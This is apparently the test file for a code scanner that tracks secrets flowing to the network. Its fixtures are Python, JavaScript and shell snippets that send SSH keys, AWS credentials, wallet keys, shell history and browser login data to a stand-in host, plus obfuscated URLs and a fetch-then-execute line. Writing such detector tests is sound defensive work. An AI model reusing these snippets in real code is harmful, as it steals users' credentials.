"""What programs take from its owner and send away: by way of archives, tables, copies, names, and encoded addresses."""

import time

import pytest

from haldir_scanner import Status, scan_files
from haldir_scanner._code import _javascript as javascript
from haldir_scanner._code import _python as python
from haldir_scanner._code import _shell as shell
from haldir_scanner._text import Folded

needs_trees = pytest.mark.skipif(not javascript.available(), reason="needs the extra ast")

THEFT = "taint_secret_to_network"
HIDDEN = "taint_decoded_address"
KEY = "taint_key_in_message"
POST = "fetch('https://in.example', { method: 'POST', body: "
SEND = "requests.post('https://in.example/c', data=body)\n"
IMPORTS = "import io, os, pathlib, requests, shutil, tarfile, zipfile\nH = pathlib.Path.home()\n"


def in_python(text: str) -> set[str]:
    return {found.rule for found in python.examine(text.encode()) if not isinstance(found, Folded)}


def in_javascript(text: str) -> set[str]:
    return {found.rule for found in javascript.examine(text.encode(), "typescript") if not isinstance(found, Folded)}


def in_shell(text: str) -> set[str]:
    return {found.rule for found in shell.examine(text.encode()) if not isinstance(found, Folded)}


@pytest.mark.parametrize(
    "text",
    [
        (
            "T = {'a': H / '.aws' / 'credentials', 'k': H / '.kube' / 'config'}\n"
            "body = {k: p.read_text() for k, p in T.items() if p.exists()}\n"
        ),
        (
            "T = {'a': os.path.join(H, '.ssh', 'id_rsa'), 'b': len(H.parts)}\n"
            "for p in T.values():\n    body = open(p).read()\n"
        ),
        "T = dict(a=1)\nT = {'x': H / '.gnupg' / 'secring.gpg', 'n': H}\nbody = T['x'].read_bytes()\n",
        "shutil.copy2(H / '.ssh' / 'id_rsa', '/tmp/copy')\nbody = open('/tmp/copy', 'rb').read()\n",
        (
            "shutil.copytree(H / '.config/google-chrome', '/tmp/prof')\n"
            "shutil.make_archive('/tmp/p', 'zip', '/tmp/prof')\n"
            "body = open('/tmp/p.zip', 'rb')\n"
        ),
        (
            "shutil.make_archive('/tmp/s', 'gztar', os.path.expanduser('~/.ssh'))\n"
            "body = pathlib.Path('/tmp/s.tar.gz').read_bytes()\n"
        ),
        (
            "with zipfile.ZipFile('/tmp/o.zip', 'w') as z:\n    z.write(H / '.aws' / 'credentials')\n"
            "body = open('/tmp/o.zip', 'rb').read()\n"
        ),
        (
            "b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n"
            "    z.write(os.path.expanduser('~/.ssh/id_ed25519'))\n"
            "body = b.getvalue()\n"
        ),
        (
            "t = tarfile.open('/tmp/o.tgz', 'w:gz')\nt.add(os.path.expanduser('~/.ssh'))\nt.close()\n"
            "body = open('/tmp/o.tgz', 'rb')\n"
        ),
        "body = open(H / '.ssh' / 'id_rsa').read().lower()\n",
        "body = {'wallet': os.getenv('SOLANA_PRIVATE_KEY'), 'fiat': 'eur'}\n",
        "words = os.environ['WALLET_MNEMONIC'].strip()\nbody = f'w={words}'\n",
    ],
    ids=[
        "paths in a table",
        "values of a table",
        "an item of a table",
        "a copy",
        "a copied folder in an archive",
        "an archive of a folder",
        "an archive by its path",
        "an archive in memory",
        "a tar",
        "lower case",
        "the key of a wallet",
        "the words of a wallet",
    ],
)
def test_what_a_python_program_takes_is_followed_to_where_it_is_sent(text: str) -> None:
    assert THEFT in in_python(IMPORTS + text + SEND)


@pytest.mark.parametrize(
    "text",
    [
        "T = {'a': H / 'notes.md', 'k': H / 'todo.md'}\nbody = {k: p.read_text() for k, p in T.items()}\n",
        "T = {'a': H / '.aws' / 'credentials', 'b': 1}\nbody = {'tables': len(T)}\n",
        "shutil.copy2('a.txt', '/tmp/copy')\nbody = open('/tmp/copy', 'rb').read()\n",
        "shutil.copy2(H / '.ssh' / 'id_rsa', '/tmp/copy')\nbody = open('/tmp/other', 'rb').read()\n",
        "shutil.make_archive('/tmp/s', 'zip', 'dist')\nbody = open('/tmp/s.zip', 'rb')\n",
        "with tarfile.open('/backup/keys.tgz', 'w:gz') as t:\n    t.add(H / '.ssh')\nbody = 'backup made'\n",
        "z = zipfile.ZipFile(io.BytesIO(requests.get('https://api.example/x.zip').content))\nbody = z.read('a.csv')\n",
        "body = {'address': Account.from_key(os.environ['PRIVATE_KEY']).address}\n",
        "body = {'address': os.environ['WALLET_ADDRESS']}\n",
        (
            "from eth_account import Account\nk = Account.from_key(os.environ['PRIVATE_KEY'])\n"
            "body = {'signature': k.sign_message(text).signature.hex()}\n"
        ),
    ],
    ids=[
        "notes in a table",
        "the size of a table",
        "a copy of a text",
        "another file than the copy",
        "an archive of what was built",
        "an archive that stays",
        "an archive that was fetched",
        "an address made of a key",
        "an address of a wallet",
        "a signature",
    ],
)
def test_an_honest_python_program_that_looks_alike_is_let_be(text: str) -> None:
    assert not {THEFT, KEY, HIDDEN} & in_python(IMPORTS + text + SEND)


@pytest.mark.parametrize(
    ("address", "is_hidden"),
    [
        ("base64.b64decode('aHR0cHM6Ly9pbi5leGFtcGxlL2M=').decode()", True),
        ("bytes.fromhex('68747470733a2f2f696e2e6578616d706c652f63').decode()", True),
        ("'c/elpmaxe.ni//:sptth'[::-1]", True),
        ("'https://api.example/' + '/'.join(['v1', 'items'])", False),
        ("'https://api.example/' + str(8080)", False),
    ],
    ids=["base64", "hex", "reversed", "joined", "a number"],
)
def test_a_python_program_that_decodes_the_address_it_speaks_to_hides_it(address: str, is_hidden: bool) -> None:  # noqa: FBT001
    assert (HIDDEN in in_python(f"import base64, requests\nrequests.get({address})\n")) is is_hidden


@pytest.mark.parametrize(
    ("variable", "place", "is_wrong"),
    [
        ("OPENAI_API_KEY", "json={{'k': {}}}", True),
        ("GITHUB_TOKEN", "data={}", True),
        ("OPENAI_API_KEY", "headers={{'Authorization': {}}}", False),
        ("GITHUB_CLIENT_SECRET", "data={{'client_secret': {}}}", False),
        ("SEARCH_API_KEY", "json={{'api_key': {}}}", False),
    ],
)
def test_a_key_that_belongs_in_a_header_is_no_part_of_a_message(variable: str, place: str, is_wrong: bool) -> None:  # noqa: FBT001
    given = place.format(f"os.environ['{variable}']")
    text = f"import os, requests\nrequests.post('https://in.example/c', {given})\n"
    assert (KEY in in_python(text)) is is_wrong


@needs_trees
@pytest.mark.parametrize(
    ("rule", "text"),
    [
        (
            THEFT,
            ("import WebSocket from 'ws'; import fs from 'fs'; import os from 'os';\n"
                "const ws = new WebSocket('wss://in.example');\n"
            "ws.on('open', () => ws.send(fs.readFileSync(os.homedir() + '/.ssh/id_rsa')));\n"),
        ),
        (THEFT, POST + "JSON.stringify({ k: process.env.PRIVATE_KEY }) });\n"),
        (KEY, "const t = process.env.GITHUB_TOKEN;\n" + POST + "JSON.stringify({ t }) });\n"),
        (HIDDEN, "fetch(Buffer.from('aHR0cHM6Ly9pbi5leGFtcGxlL2M=', 'base64').toString());\n"),
        (HIDDEN, "import axios from 'axios';\naxios({ url: atob('aHR0cHM6Ly9pbi5leGFtcGxlL2M='), method: 'post' });\n"),
        (
            "taint_fetched_to_exec",
            ("const cp = require('child_process');\nconst s = await (await fetch('https://in.example/x')).text();\n"
            "cp.spawn('node', ['-e', s]);\n"),
        ),
    ],
    ids=["socket", "wallet", "key", "address", "address of options", "text for an interpreter"],
)  # fmt: skip
def test_what_a_javascript_program_takes_is_followed_to_where_it_is_sent(rule: str, text: str) -> None:
    assert rule in in_javascript(text)


@needs_trees
@pytest.mark.parametrize(
    "text",
    [
        ("const w = new ethers.Wallet(process.env.PRIVATE_KEY);\nconst s = await w.signMessage(m);\n"
        "fetch('https://in.example', { method: 'POST', body: JSON.stringify({ a: w.address, s }) });\n"),
        "fetch('https://in.example', { headers: { authorization: process.env.GITHUB_TOKEN }, body: '{}' });\n",
        "fetch(`https://in.example/${encodeURIComponent(q)}`, { headers: { a: btoa('x:y') } });\n",
        "const s = Buffer.from(answer.data, 'base64').toString();\n" + POST + "s });\n",
        "const cp = require('child_process');\ncp.spawn('node', ['-e', 'console.log(1)']);\n",
    ],
    ids=["signature", "header", "encoded words", "decoded message", "program that is written out"],
)  # fmt: skip
def test_an_honest_javascript_program_that_looks_alike_is_let_be(text: str) -> None:
    assert not {THEFT, KEY, HIDDEN, "taint_fetched_to_exec"} & in_javascript(text)


@pytest.mark.parametrize(
    "text",
    [
        'K="$HOME/.ssh/id_rsa"\ncat "$K" | curl -d @- https://in.example/c\n',
        (
            'H="${HOME}/.zsh_history"; [ -f "$H" ] || H="$HOME/.bash_history"\n'
            'grep -i token "$H" | gzip > /tmp/.s\ncurl -T /tmp/.s https://in.example/c\n'
        ),
        "cp ~/.aws/credentials /tmp/.s\ncurl --data-urlencode d@/tmp/.s https://in.example/c\n",
    ],
    ids=["a path in a variable", "one of two paths", "a named file"],
)
def test_what_a_shell_script_takes_is_followed_to_where_it_is_sent(text: str) -> None:
    assert THEFT in in_shell(text)


@pytest.mark.parametrize(
    "text",
    [
        'K="$HOME/notes/today.md"\ncat "$K" | curl -d @- https://in.example/c\n',
        'K="$HOME/.ssh/id_rsa"\nssh -i "$K" host.example ls\ncurl -d x=1 https://in.example/c\n',
        "curl --data-urlencode mail@host.example https://in.example/c\n",
    ],
    ids=["notes", "a key in its place", "a mail address"],
)
def test_an_honest_shell_script_that_looks_alike_is_let_be(text: str) -> None:
    assert THEFT not in in_shell(text)


def test_stores_that_are_copied_by_one_function_and_sent_by_another_reject() -> None:
    program = (
        "import pathlib, shutil, urllib.request, zipfile\n"
        "WANT = ['Login Data', 'Cookies']\n"
        "def gather(root, out):\n    for name in WANT:\n        shutil.copy2(root / name, out / name)\n"
        "def deliver(out):\n    with zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n"
        "        for f in out.rglob('*'):\n            z.write(f)\n"
        "    urllib.request.urlopen(urllib.request.Request(HUB, open('/tmp/a.zip', 'rb').read()))\n"
    )
    assert scan_files({"sync.py": program.encode()}).status is Status.REJECT


def test_tables_archives_and_copies_take_time_in_proportion_to_their_number() -> None:
    def seconds(count: int) -> float:
        rows = "".join(f"    'k{n}': H / '.aws' / 'credentials{n}',\n" for n in range(count))
        calls = "".join(
            f"shutil.copy(T['k{n}'], '/tmp/c{n}')\nz.write('/tmp/c{n}')\nT.get('k{n}').read_text()\n"
            for n in range(count)
        )
        archive = "z = zipfile.ZipFile('/tmp/z.zip', 'w')\n"
        text = f"{IMPORTS}T = {{\n{rows}}}\n{archive}{calls}body = open('/tmp/z.zip')\n{SEND}"
        data = text.encode()
        runs = []
        for _ in range(3):
            started = time.process_time()
            list(python.examine(data))
            runs.append(time.process_time() - started)
        return min(runs)

    assert seconds(2000) < 12 * seconds(400) + 0.05
